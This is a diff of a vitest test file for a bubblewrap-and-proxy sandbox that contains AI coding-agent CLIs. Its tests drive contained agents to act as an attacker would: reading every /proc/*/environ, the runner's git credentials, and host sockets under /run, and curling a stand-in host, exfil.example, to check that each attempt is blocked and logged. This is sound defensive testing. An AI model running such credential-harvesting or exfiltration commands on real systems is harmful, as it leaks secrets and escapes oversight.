@@ -1,17 +1,18 @@
-import { execFileSync } from 'node:child_process';
-import { readFileSync } from 'node:fs';
+import { execFile, execFileSync } from 'node:child_process';
+import { promisify } from 'node:util';
+import { mkdirSync, readFileSync } from 'node:fs';
 import { createServer } from 'node:http';
-import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { bwrapArgs, containmentProblem, hostAllowed, keptPathDirs } from '../../src/agent/contain.js';
+import { bwrapArgs, containAgent, containmentProblem, hostAllowed } from '../../src/agent/contain.js';
+import { neededDirs, type FsView } from '../../src/kernel/bubblewrap.js';
 import { claudeCode } from '../../src/agent/claude-code.js';
 import { codex } from '../../src/agent/codex.js';
 import { runSummary } from '../../src/agent/run.js';
 import { runAgent } from '../../src/agent/agent-process.js';
 import { agentCliBin } from '../../sandbox/agent-clis.js';
 import { ScriptedModel } from '../../sandbox/models/scripted-model.js';
-import { JOB_SECRETS, haveAgentClis, runnerWithSecrets, tempFolders } from './helpers.js';
+import { JOB_SECRETS, haveAgentClis, hostSockets, outsideTmp, runnerWithSecrets, tempFolders } from './helpers.js';
 
 // TR20: the agent's tools run contained. A real CLI, driven to run what an
 // attacker would, reads every /proc/*/environ it can see, the runner's git
@@ -19,6 +20,7 @@ import { JOB_SECRETS, haveAgentClis, runnerWithSecrets, tempFolders } from './he
 // but its own model key, and reaches only the model and the allowed hosts.
 
 const tmp = tempFolders();
+const execFileP = promisify(execFile);
 
 const haveBwrap = containmentProblem() === null;
 if (!haveBwrap) {
@@ -44,27 +46,38 @@ describe('the sandbox, as data', () => {
     expect(hostAllowed('registry.npmjs.org.evil.example', ['registry.npmjs.org'])).toBe(false);
   });
 
-  it('TR20 bubblewrap unshares every namespace, hides the runner\u2019s home and temp folder, and writes only the checkout and the agent\u2019s home', () => {
-    const args = bwrapArgs(
-      {
-        workspace: '/w',
-        home: '/h',
-        hide: ['/home/runner', '/rt'],
-        keep: ['/home/runner/.cache/cli/node_modules'],
-        bridge: '/b',
-        proxyPort: 8877,
-        loopbackModel: null,
+  it('TR20 bubblewrap unshares every namespace, shows the system\u2019s folders and no socket folder, hides the runner\u2019s home and temp folder, and writes only the checkout and the agent\u2019s home', () => {
+    const view: FsView = {
+      base: {
+        kind: 'system',
+        roots: [
+          { path: '/usr', link: null },
+          { path: '/bin', link: 'usr/bin' },
+          { path: '/etc', link: null },
+        ],
       },
-      'claude',
-      ['-p', 'x'],
-    );
+      hide: ['/home/runner', '/rt'],
+      hideFiles: [],
+      ro: ['/home/runner/.cache/cli/node_modules', '/b'],
+      rw: ['/w', '/h'],
+    };
+    const args = bwrapArgs({ workspace: '/w', view, bridge: '/b', proxyPort: 8877, loopbackModel: null }, 'claude', [
+      '-p',
+      'x',
+    ]);
     expect(args.slice(0, args.indexOf('--'))).toEqual([
       '--die-with-parent',
       '--new-session',
       '--unshare-all',
       '--ro-bind',
-      '/',
-      '/',
+      '/usr',
+      '/usr',
+      '--symlink',
+      'usr/bin',
+      '/bin',
+      '--ro-bind',
+      '/etc',
+      '/etc',
       '--dev',
       '/dev',
       '--proc',
@@ -72,28 +85,48 @@ describe('the sandbox, as data', () => {
       '--tmpfs',
       '/tmp',
       '--tmpfs',
+      '/var/tmp',
+      '--tmpfs',
       '/home/runner',
       '--tmpfs',
       '/rt',
       '--ro-bind',
       '/home/runner/.cache/cli/node_modules',
       '/home/runner/.cache/cli/node_modules',
-      '--bind',
-      '/w',
-      '/w',
-      '--bind',
-      '/h',
-      '/h',
       '--ro-bind',
       '/b',
       '/b',
+      '--bind',
+      '/w',
+      '/w',
+      '--bind',
+      '/h',
+      '/h',
       '--chdir',
       '/w',
     ]);
     expect(args.slice(-3)).toEqual(['claude', '-p', 'x']);
-    expect(keptPathDirs(`/home/runner/.cache/cli/node_modules/.bin:/usr/bin:${tmpdir()}`, [tmpdir()])).toEqual([
-      tmpdir(),
-    ]);
+    // Nothing of / is shown whole: no /run, /var/run, /home or /tmp of the host's.
+    expect(args).not.toContain('/run');
+    expect(args.join(' ')).not.toContain('--ro-bind / /');
+  });
+
+  it('TR20 the folders a contained agent needs besides the system\u2019s: those on PATH it would not see (a node_modules/.bin brings its node_modules) and node\u2019s own', () => {
+    const d = tmp('yoke-needed-', outsideTmp());
+    const cli = join(d, 'home', '.cache', 'cli', 'node_modules', '.bin');
+    const tools = join(d, 'tools', 'bin');
+    const nodeDir = join(d, 'node', 'bin');
+    for (const x of [cli, tools, nodeDir]) mkdirSync(x, { recursive: true });
+    const view: FsView = {
+      base: { kind: 'system', roots: [{ path: '/usr', link: null }] },
+      hide: [join(d, 'home')],
+      hideFiles: [],
+      ro: [],
+      rw: [],
+    };
+    expect(neededDirs(view, `${cli}:/usr/bin:${tools}:/nonexistent/bin`, join(nodeDir, 'node')).sort()).toEqual(
+      [join(d, 'home', '.cache', 'cli', 'node_modules'), tools, nodeDir].sort(),
+    );
   });
 
   it('TR20 a run\u2019s summary lists each refused connection with the command that tried', () => {
@@ -106,14 +139,56 @@ describe('the sandbox, as data', () => {
   });
 });
 
+describe.skipIf(!haveBwrap)('the sandbox, with a real process in it', () => {
+  it('TR20 a tool reaches no host socket: one the test listens on under /run and one outside /tmp refuse curl, node and python alike', async () => {
+    const sockets = await hostSockets(tmp);
+    // The sockets are there to reach: outside the sandbox, each answers.
+    for (const p of sockets.paths)
+      expect((await execFileP('curl', ['-sS', '-m', '3', '--unix-socket', p, 'http://host/'])).stdout).toBe(
+        'host-socket-answered\n',
+      );
+    const { runnerHome, runnerTemp } = runnerWithSecrets(tmp);
+    const cwd = checkout();
+    const home = tmp('yoke-contain-ah-');
+    const contained = await containAgent(
+      {
+        workspace: cwd,
+        home,
+        env: { PATH: process.env.PATH, HOME: runnerHome, RUNNER_TEMP: runnerTemp },
+        modelUrl: null,
+        modelHosts: [],
+        allow: [],
+      },
+      '/bin/sh',
+      ['-c', [...sockets.probe, 'ls -la /run /var/run >> seen.txt 2>&1', 'id >> seen.txt'].join('; ')],
+    );
+    try {
+      await execFileP(contained.command, contained.args, {
+        env: { PATH: process.env.PATH, ...contained.env },
+        timeout: 60_000,
+      });
+    } finally {
+      await contained.close();
+      await sockets.close();
+    }
+    const seen = readFileSync(join(cwd, 'seen.txt'), 'utf8');
+    expect(seen).not.toContain('host-socket-answered');
+    expect(seen).not.toMatch(/socket-curl=0|socket-python=0/);
+    expect(seen.match(/socket-curl=7/g)?.length).toBe(sockets.paths.length);
+    expect(seen.match(/node-socket-refused ENOENT/g)?.length).toBe(sockets.paths.length);
+  }, 90_000);
+});
+
 describe.skipIf(!ok)('the sandbox, with the real CLIs', () => {
   it('TR20 a tool command that reads every environ it can see, the runner\u2019s git credentials and temp files finds only its own CLI\u2019s key; the network reaches the model and allowed hosts only, and each refusal is kept', async () => {
     const allowed = createServer((_q, r) => r.end('allowed-host-answered'));
     await new Promise<void>((r) => allowed.listen(0, '127.0.0.1', r));
     const port = (allowed.address() as { port: number }).port;
     const { runnerHome, runnerTemp, probe: lines } = runnerWithSecrets(tmp);
+    const sockets = await hostSockets(tmp);
     const probe = [
       ...lines,
+      ...sockets.probe,
       `curl -sS -m 5 http://localhost:${port}/ >> seen.txt 2>&1; echo "allowed=$?" >> seen.txt`,
       'true',
     ].join('; ');
@@ -163,6 +238,9 @@ describe.skipIf(!ok)('the sandbox, with the real CLIs', () => {
         expect(seen).toContain('allowed-host-answered');
         expect(seen).toContain('allowed=0');
         expect(seen).not.toContain('exfil=0');
+        // No host socket either (a docker.sock would be the machine's root).
+        expect(seen).not.toContain('host-socket-answered');
+        expect(seen.match(/socket-curl=7/g)?.length, agent.name).toBe(sockets.paths.length);
         // The tool's attempt is kept with its command; so are the CLI's own (Codex calls home), which the proxy refused too.
         expect(r.blocked).toContainEqual({ host: 'exfil.example', command: 'curl -sS -m 5 https://exfil.example/' });
         expect(
@@ -176,6 +254,7 @@ describe.skipIf(!ok)('the sandbox, with the real CLIs', () => {
       }
     }
     allowed.close();
+    await sockets.close();
   }, 120_000);
 
   it('TR20 the runner on SIGTERM (a cancelled job) ends its agent and everything it started', async () => {
